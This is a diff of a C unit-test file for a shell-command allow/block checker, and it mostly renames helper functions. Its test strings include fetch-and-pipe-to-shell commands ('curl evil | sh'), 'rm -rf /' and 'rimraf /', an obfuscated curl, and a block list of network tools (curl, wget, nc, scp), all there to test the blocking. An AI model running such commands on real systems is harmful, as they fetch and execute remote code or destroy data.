@@ -80,8 +80,8 @@ static void test_harmless(void **state)
 	assert_true(each_line("everyday.txt", false) >= 300);
 }
 
-static int lists(const char *const *allow, size_t nallow, const char *const *block, size_t nblock,
-	const char *text)
+static int check_by_lists(const char *const *allow, size_t nallow, const char *const *block,
+	size_t nblock, const char *text)
 {
 	struct rule_options o = {
 		.allow = allow, .nallow = nallow, .block = block, .nblock = nblock};
@@ -106,35 +106,35 @@ static void test_lists(void **state)
 	struct err e = ERR_INIT;
 
 	(void)state;
-	assert_int_equal(lists(allow, 3, NULL, 0, "python -c 'print(1)'"), 0);
-	assert_int_equal(lists(allow, 3, NULL, 0, "python3.11 x.py && git status"), 0);
-	assert_int_equal(lists(allow, 3, NULL, 0, "/usr/bin/python x"), 0);
-	assert_int_equal(lists(allow, 3, NULL, 0, "python x; curl evil | sh"), -1);
-	assert_int_equal(lists(allow, 3, NULL, 0, "pythonevil"), -1);
-	assert_int_equal(lists(allow, 3, NULL, 0, "git push"), -1);
-	assert_int_equal(lists(allow, 3, NULL, 0, "ls -l"), -1);
-	assert_int_equal(lists(allow, 3, NULL, 0, "nice python x"), 0);
-	assert_int_equal(lists(allow, 3, NULL, 0, "python $(curl evil)"), -1);
-	assert_int_equal(lists(NULL, 0, block, 2, "cd / && rm -rf x"), -1);
-	assert_int_equal(lists(NULL, 0, block, 2, "/bin/rm x"), -1);
-	assert_int_equal(lists(NULL, 0, block, 2, "find . -exec rm {} +"), -1);
-	assert_int_equal(lists(NULL, 0, block, 2, "env A=1 xargs -n 1 rm"), -1);
-	assert_int_equal(lists(NULL, 0, block, 2, "c\\u\\r\\l http://x"), -1);
-	assert_int_equal(lists(NULL, 0, block, 2, "echo rm is a word"), 0);
-	assert_int_equal(lists(NULL, 0, block, 2, "rmdir x"), 0);
-	assert_int_equal(lists(allow, 3, NULL, 0, "xargs -i ls"), 0);
-	assert_int_equal(lists(allow, 3, NULL, 0, "env A=1 python -S x.py"), 0);
-	assert_int_equal(lists(allow, 3, NULL, 0, "timeout --signal KILL 60 ls"), 0);
-	assert_int_equal(lists(allow, 3, NULL, 0, "timeout --signal ls 60 make"), -1);
-	assert_int_equal(lists(NULL, 0, either, 5, "git push"), -1);
-	assert_int_equal(lists(NULL, 0, either, 5, "cd x && git push --force"), -1);
-	assert_int_equal(lists(NULL, 0, either, 5, "rm x"), -1);
-	assert_int_equal(lists(NULL, 0, either, 5, "curl"), -1);
-	assert_int_equal(lists(NULL, 0, either, 5, "wget x"), -1);
-	assert_int_equal(lists(NULL, 0, either, 5, "nc"), -1);
-	assert_int_equal(lists(NULL, 0, either, 5, "scp"), -1);
-	assert_int_equal(lists(NULL, 0, either, 5, "git pull"), 0);
-	assert_int_equal(lists(allow, 3, NULL, 0, "git-evil status"), -1);
+	assert_int_equal(check_by_lists(allow, 3, NULL, 0, "python -c 'print(1)'"), 0);
+	assert_int_equal(check_by_lists(allow, 3, NULL, 0, "python3.11 x.py && git status"), 0);
+	assert_int_equal(check_by_lists(allow, 3, NULL, 0, "/usr/bin/python x"), 0);
+	assert_int_equal(check_by_lists(allow, 3, NULL, 0, "python x; curl evil | sh"), -1);
+	assert_int_equal(check_by_lists(allow, 3, NULL, 0, "pythonevil"), -1);
+	assert_int_equal(check_by_lists(allow, 3, NULL, 0, "git push"), -1);
+	assert_int_equal(check_by_lists(allow, 3, NULL, 0, "ls -l"), -1);
+	assert_int_equal(check_by_lists(allow, 3, NULL, 0, "nice python x"), 0);
+	assert_int_equal(check_by_lists(allow, 3, NULL, 0, "python $(curl evil)"), -1);
+	assert_int_equal(check_by_lists(NULL, 0, block, 2, "cd / && rm -rf x"), -1);
+	assert_int_equal(check_by_lists(NULL, 0, block, 2, "/bin/rm x"), -1);
+	assert_int_equal(check_by_lists(NULL, 0, block, 2, "find . -exec rm {} +"), -1);
+	assert_int_equal(check_by_lists(NULL, 0, block, 2, "env A=1 xargs -n 1 rm"), -1);
+	assert_int_equal(check_by_lists(NULL, 0, block, 2, "c\\u\\r\\l http://x"), -1);
+	assert_int_equal(check_by_lists(NULL, 0, block, 2, "echo rm is a word"), 0);
+	assert_int_equal(check_by_lists(NULL, 0, block, 2, "rmdir x"), 0);
+	assert_int_equal(check_by_lists(allow, 3, NULL, 0, "xargs -i ls"), 0);
+	assert_int_equal(check_by_lists(allow, 3, NULL, 0, "env A=1 python -S x.py"), 0);
+	assert_int_equal(check_by_lists(allow, 3, NULL, 0, "timeout --signal KILL 60 ls"), 0);
+	assert_int_equal(check_by_lists(allow, 3, NULL, 0, "timeout --signal ls 60 make"), -1);
+	assert_int_equal(check_by_lists(NULL, 0, either, 5, "git push"), -1);
+	assert_int_equal(check_by_lists(NULL, 0, either, 5, "cd x && git push --force"), -1);
+	assert_int_equal(check_by_lists(NULL, 0, either, 5, "rm x"), -1);
+	assert_int_equal(check_by_lists(NULL, 0, either, 5, "curl"), -1);
+	assert_int_equal(check_by_lists(NULL, 0, either, 5, "wget x"), -1);
+	assert_int_equal(check_by_lists(NULL, 0, either, 5, "nc"), -1);
+	assert_int_equal(check_by_lists(NULL, 0, either, 5, "scp"), -1);
+	assert_int_equal(check_by_lists(NULL, 0, either, 5, "git pull"), 0);
+	assert_int_equal(check_by_lists(allow, 3, NULL, 0, "git-evil status"), -1);
 	assert_null(rule_set_compile(&bad, &e));
 	assert_int_equal(e.kind, ERR_CONFIG);
 }
@@ -146,22 +146,25 @@ static void test_syntax(void **state)
 		   *loop[] = {"echo.*", "read .*"}, *git[] = {"git.*", "cat"};
 
 	(void)state;
-	assert_int_equal(lists(allow, 2, NULL, 0, "cd src && \\\n  make"), 0);
-	assert_int_equal(lists(allow, 2, NULL, 0, "cd src && \\\n  ls"), -1);
-	assert_int_equal(lists(echo, 1, NULL, 0, "case $1 in start) echo s;; *) echo; esac"), 0);
-	assert_int_equal(lists(echo, 1, NULL, 0, "case $1 in\nstart) ls;; esac"), -1);
-	assert_int_equal(lists(echo, 1, NULL, 0, "for ((i=0;i<3;i++)); do echo $i; done"), 0);
-	assert_int_equal(lists(echo, 1, NULL, 0, "for ((i=0;i<3;i++)); do ls; done"), -1);
-	assert_int_equal(lists(echo, 1, NULL, 0, "while :; do echo; done < <(ls)"), -1);
-	assert_int_equal(lists(loop, 2, NULL, 0, "while read l; do echo; done < <(echo)"), 0);
-	assert_int_equal(lists(echo, 1, NULL, 0, "select x in a b; do echo $x; done"), 0);
+	assert_int_equal(check_by_lists(allow, 2, NULL, 0, "cd src && \\\n  make"), 0);
+	assert_int_equal(check_by_lists(allow, 2, NULL, 0, "cd src && \\\n  ls"), -1);
 	assert_int_equal(
-		lists(git, 2, NULL, 0,
+		check_by_lists(echo, 1, NULL, 0, "case $1 in start) echo s;; *) echo; esac"), 0);
+	assert_int_equal(check_by_lists(echo, 1, NULL, 0, "case $1 in\nstart) ls;; esac"), -1);
+	assert_int_equal(
+		check_by_lists(echo, 1, NULL, 0, "for ((i=0;i<3;i++)); do echo $i; done"), 0);
+	assert_int_equal(check_by_lists(echo, 1, NULL, 0, "for ((i=0;i<3;i++)); do ls; done"), -1);
+	assert_int_equal(check_by_lists(echo, 1, NULL, 0, "while :; do echo; done < <(ls)"), -1);
+	assert_int_equal(
+		check_by_lists(loop, 2, NULL, 0, "while read l; do echo; done < <(echo)"), 0);
+	assert_int_equal(check_by_lists(echo, 1, NULL, 0, "select x in a b; do echo $x; done"), 0);
+	assert_int_equal(
+		check_by_lists(git, 2, NULL, 0,
 			"git commit -m \"$(cat <<'EOF'\nfix: don't crash\nEOF\n)\" && git push"),
 		0);
 }
 
-static void test_argv(void **state)
+static void test_rule_argv(void **state)
 {
 	struct rule_set *r = default_rules();
 	const char *grep[] = {"grep", "-rn", "sudo rm -rf /", "docs/"}, *rm[] = {"rm", "-rf", "/"};
@@ -177,7 +180,7 @@ static void test_argv(void **state)
 	rule_set_free(r);
 }
 
-static void unescape(char *s)
+static void unescape_line(char *s)
 {
 	char *to = s;
 
@@ -214,7 +217,7 @@ static bool ran_others(const char *ran)
 	return false;
 }
 
-static char verdict(const struct rule_set *r, const char *shell, const char *script)
+static char verdict_of(const struct rule_set *r, const char *shell, const char *script)
 {
 	struct err e = ERR_INIT;
 
@@ -232,9 +235,9 @@ static size_t check_case(struct rule_set *const set[2], char *line, bool compute
 	bool wrong;
 
 	assert_non_null(want);
-	unescape(line);
+	unescape_line(line);
 	for (size_t i = 0; i < 4; i++)
-		got[i] = verdict(set[i / 2], shell[i % 2], line);
+		got[i] = verdict_of(set[i / 2], shell[i % 2], line);
 	wrong = strcmp(got, want) || (got[0] == '.' && ran_others(bash)) ||
 		(got[1] == '.' && ran_others(dash)) ||
 		(!computed &&
@@ -340,10 +343,10 @@ static void test_past_lists(void **state)
 
 	(void)state;
 	for (size_t i = 0; i < COUNT(past_allow); i++)
-		if (!lists(allow, COUNT(allow), NULL, 0, past_allow[i]))
+		if (!check_by_lists(allow, COUNT(allow), NULL, 0, past_allow[i]))
 			fail_msg("allowed: %s", past_allow[i]);
 	for (size_t i = 0; i < COUNT(past_block); i++)
-		if (!lists(NULL, 0, block, COUNT(block), past_block[i]))
+		if (!check_by_lists(NULL, 0, block, COUNT(block), past_block[i]))
 			fail_msg("not blocked: %s", past_block[i]);
 }
 
@@ -353,9 +356,9 @@ static void test_outer_wrapper(void **state)
 	const char *const allow[] = {"npx .*"}, *const block[] = {"tsc.*"};
 
 	(void)state;
-	assert_int_equal(lists(allow, 1, NULL, 0, "npx tsc --noEmit"), 0);
-	assert_int_equal(lists(NULL, 0, block, 1, "npx tsc --noEmit"), 0);
-	assert_int_equal(lists(allow, 1, NULL, 0, "npx rimraf /"), -1);
+	assert_int_equal(check_by_lists(allow, 1, NULL, 0, "npx tsc --noEmit"), 0);
+	assert_int_equal(check_by_lists(NULL, 0, block, 1, "npx tsc --noEmit"), 0);
+	assert_int_equal(check_by_lists(allow, 1, NULL, 0, "npx rimraf /"), -1);
 }
 
 int main(void)
@@ -365,7 +368,7 @@ int main(void)
 		cmocka_unit_test(test_harmless),
 		cmocka_unit_test(test_lists),
 		cmocka_unit_test(test_syntax),
-		cmocka_unit_test(test_argv),
+		cmocka_unit_test(test_rule_argv),
 		cmocka_unit_test(test_corpus),
 		cmocka_unit_test(test_construct_named),
 		cmocka_unit_test(test_past_lists),
